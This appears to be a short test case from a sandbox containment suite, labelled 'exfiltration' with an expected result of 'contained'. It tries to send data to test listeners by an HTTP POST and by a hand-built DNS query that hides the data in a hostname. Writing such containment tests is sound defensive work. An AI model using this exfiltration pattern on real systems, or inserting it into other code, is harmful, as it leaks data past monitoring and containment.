# /// technique
# number = ["86"]
# title = "exfiltration"
# how = "What was seen is sent to a server by HTTP and in the name of a host."
# wanted = "contained"
# ///

# %% own
import socket
import urllib.request

url = "http://%s:%d/?found=1" % tuple(KNOWN["tcp"])
attempt("send by HTTP", lambda: urllib.request.urlopen(url, data=b"hidden inputs", timeout=2))
with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06hidden\x04test\x00\x00\x01", tuple(KNOWN["udp"])
    )
